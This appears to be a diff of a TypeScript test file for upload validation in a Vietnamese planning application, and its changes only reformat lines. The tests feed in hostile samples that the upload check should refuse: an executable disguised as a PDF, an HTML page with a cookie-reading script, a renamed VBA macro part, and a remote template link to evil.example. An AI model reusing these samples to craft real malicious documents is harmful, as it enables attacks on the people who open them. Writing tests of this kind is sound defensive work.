@@ -38,7 +38,9 @@ async function actorFor(role: Role, organizationId: string, email: string): Prom
 async function setup() {
   const home = await db.organization.create({ data: { code: "QN", kind: "PROVINCE", nameVi: "Tỉnh Quảng Ninh" } });
   const other = await db.organization.create({ data: { code: "HN", kind: "CITY", nameVi: "Thành phố Hà Nội" } });
-  const plan = await db.actionPlan.create({ data: { organizationId: home.id, title: "Kế hoạch thực hiện Chiến lược", periodStart: 2026, periodEnd: 2030 } });
+  const plan = await db.actionPlan.create({
+    data: { organizationId: home.id, title: "Kế hoạch thực hiện Chiến lược", periodStart: 2026, periodEnd: 2030 },
+  });
   return {
     plan,
     editor: await actorFor("ORG_EDITOR", home.id, "editor@quangninh.gov.vn"),
@@ -78,7 +80,9 @@ describe("plan attachments", () => {
     expect(row.storageKey).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{32}$/);
     expect(await storedFiles()).toEqual([row.storageKey]);
     expect(new Uint8Array(await readFile(path.join(uploadDir, row.storageKey)))).toEqual(bytes);
-    expect(await db.auditLog.findFirst({ where: { entity: "Attachment", entityId: created.id, action: "create" } })).toMatchObject({ actorEmail: "editor@quangninh.gov.vn" });
+    expect(await db.auditLog.findFirst({ where: { entity: "Attachment", entityId: created.id, action: "create" } })).toMatchObject({
+      actorEmail: "editor@quangninh.gov.vn",
+    });
 
     const opened = await openAttachment(viewer, created.id);
     expect(opened).toMatchObject({ fileName: "Quyết định ban hành kế hoạch.pdf", mimeType: "application/pdf" });
@@ -90,12 +94,23 @@ describe("plan attachments", () => {
     const disguised = await addPlanAttachment(editor, plan.id, { name: "Báo cáo.docx", bytes: minimalPdf() });
     expect(disguised).toMatchObject({ mimeType: "application/pdf", fileName: "Báo cáo.pdf" });
     const docx = await addPlanAttachment(editor, plan.id, { name: "Phụ lục", bytes: minimalDocx() });
-    expect(docx).toMatchObject({ mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", fileName: "Phụ lục.docx" });
+    expect(docx).toMatchObject({
+      mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+      fileName: "Phụ lục.docx",
+    });
   });
 
   it.each([
-    ["a Windows executable renamed .pdf", "hoa-don.pdf", new TextEncoder().encode("MZ\x90\x00\x03\x00This program cannot be run in DOS mode.")],
-    ["an HTML page renamed .pdf", "ke-hoach.pdf", new TextEncoder().encode("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>")],
+    [
+      "a Windows executable renamed .pdf",
+      "hoa-don.pdf",
+      new TextEncoder().encode("MZ\x90\x00\x03\x00This program cannot be run in DOS mode."),
+    ],
+    [
+      "an HTML page renamed .pdf",
+      "ke-hoach.pdf",
+      new TextEncoder().encode("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
+    ],
     ["a ZIP that is not an Office document", "tai-lieu.docx", buildZip({ "payload.exe": "MZ" })],
   ])("refuses %s and stores nothing", async (_, name, bytes) => {
     const { plan, editor } = await setup();
@@ -105,8 +120,20 @@ describe("plan attachments", () => {
   });
 
   it.each([
-    ["a macro-enabled Word document whose VBA part is renamed", "ke-hoach.docx", { "word/data/x.dat": "vba" }, `<Override PartName="/word/data/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>`, ""],
-    ["a Word document with a remote template (fetched on opening)", "bao-cao.docx", {}, "", `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`],
+    [
+      "a macro-enabled Word document whose VBA part is renamed",
+      "ke-hoach.docx",
+      { "word/data/x.dat": "vba" },
+      `<Override PartName="/word/data/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>`,
+      "",
+    ],
+    [
+      "a Word document with a remote template (fetched on opening)",
+      "bao-cao.docx",
+      {},
+      "",
+      `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+    ],
   ])("refuses %s, read from the package's content types and relationships", async (_, name, parts, override, relationship) => {
     const { plan, editor } = await setup();
     const bytes = buildZip({
@@ -123,8 +150,12 @@ describe("plan attachments", () => {
     const { plan, editor } = await setup();
     const big = new Uint8Array(MAX_ATTACHMENT_BYTES + 1);
     big.set(minimalPdf());
-    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "lon.pdf", bytes: big }))).toEqual({ file: ["attachment_too_large"] });
-    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "rong.pdf", bytes: new Uint8Array() }))).toEqual({ file: ["file_required"] });
+    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "lon.pdf", bytes: big }))).toEqual({
+      file: ["attachment_too_large"],
+    });
+    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "rong.pdf", bytes: new Uint8Array() }))).toEqual({
+      file: ["file_required"],
+    });
     expect(await db.attachment.count()).toBe(0);
     expect(await storedFiles()).toEqual([]);
   });
